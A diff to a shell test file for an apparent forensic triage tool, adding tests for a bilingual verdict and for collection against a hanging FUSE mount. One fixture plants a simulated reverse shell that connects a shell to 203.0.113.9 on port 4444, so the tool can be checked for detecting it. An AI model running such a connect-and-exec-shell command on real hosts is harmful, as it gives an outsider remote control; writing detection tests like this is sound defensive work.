@@ -54,7 +54,7 @@ ready listener
 '
 
 setup_file() {
-	begin utmp act oldkernel
+	begin utmp act oldkernel hangfs
 	[ "$(id -u)" -eq 0 ] || return 0
 	root=$dir/root
 	export root
@@ -116,8 +116,9 @@ look() {
 	jq -e 'select(.tier == "respond") | .active == "process"' \
 		"$case_file.findings"
 	grep -q 'proc' "$case_file.verdict"
-	"$konseki" analyze -q "$dir/live.tar.zst" -o "$dir/live.2.case" \
-		--fail-on respond || [ $? -eq 1 ]
+	run "$konseki" analyze -q "$dir/live.tar.zst" -o "$dir/live.2.case" \
+		--fail-on respond
+	[ "$status" -eq 1 ]
 }
 
 @test "live/deleted: an executable that is gone, with a connection" {
@@ -190,6 +191,59 @@ look() {
 	EOT
 	xargs -0 stat -c '%F %x %n' <"$dir/names" | diff "$dir/before" -
 	tar --zstd -tf "$dir/live.tar.zst" | grep -qx files/etc/passwd
+}
+
+@test "live/triage: one command, the verdict in both languages" {
+	{ printf '%s' "$prologue"; cat; } <<-'EOT' | inside
+	act connect 203.0.113.9 4444 ready /tmp/ready.shell stdio exec sh &
+	ready shell
+	for lang in en ja; do
+		konseki triage --here -o /out.$lang --lang $lang >/out.$lang.text \
+			2>/out.err
+		echo $? >/out.$lang.status
+	done
+	EOT
+	cat "$root/out.err"
+	for lang in en ja; do
+		[ "$(cat "$root/out.$lang.status")" -eq 0 ]
+		[ "$(find "$root/out.$lang" -name '*.tar.zst' | wc -l)" -eq 1 ]
+		[ "$(find "$root/out.$lang" -name '*.case' | wc -l)" -eq 1 ]
+		[ -z "$(find "$root/out.$lang" -name '*.partial')" ]
+		[ -z "$(find "$root/out.$lang" -type f ! -perm 600)" ]
+	done
+	grep -q '^VERDICT: respond' "$root/out.en.text"
+	grep -q '^Active now' "$root/out.en.text"
+	grep -q '203.0.113.9' "$root/out.en.text"
+	grep -q '即時対応' "$root/out.ja.text"
+	# not one English sentence is left where both are said
+	[ "$(grep -cE 'VERDICT|Active now|Next steps' \
+		"$root/out.ja.text")" -eq 0 ]
+		rm -rf "$root"/out.*
+}
+
+@test "live/stuck: a file that never answers, on a living host" {
+	[ -c /dev/fuse ] || skip 'no /dev/fuse here'
+	mknod -m 600 "$root/dev/fuse" c 10 229 || skip 'no device here'
+	cp "$plant/hangfs" "$root/usr/bin/hangfs"
+	mkdir -p "$root/var/log/app"
+	{ printf '%s' "$prologue"; cat; } <<-'EOT' | inside
+	hangfs /var/log/app 'a.log!' 'run.sh!' b.log >/tmp/ready.fs &
+	n=0
+	while [ ! -s /tmp/ready.fs ] && [ $n -lt 200 ]; do
+		sleep 0.01; n=$((n + 1)); done
+	collect --deadline 2 --local-type fuse.hangfs --summary /out.summary
+	EOT
+	rm "$root/dev/fuse" "$root/usr/bin/hangfs"
+	[ -s "$root/tmp/ready.fs" ] || skip 'nothing can be mounted here'
+	took=$(jq '.duration_ns / 1000000 | floor' "$root/out.summary")
+	note "live/stuck: deadline 2 s, $took ms in all," \
+		"status $(cat "$root/out.status")"
+	[ "$(cat "$root/out.status")" -eq 3 ]
+	[ "$took" -ge 2000 ]
+	# the processes and sockets of this root need a second themselves
+	[ "$took" -le 4500 ]
+	"$konseki" verify -q "$root/out.tar.zst"
+	tar --zstd -tf "$root/out.tar.zst" | grep -qx files/etc/passwd
 }
 
 @test "live/all: every shape at once, each found" {
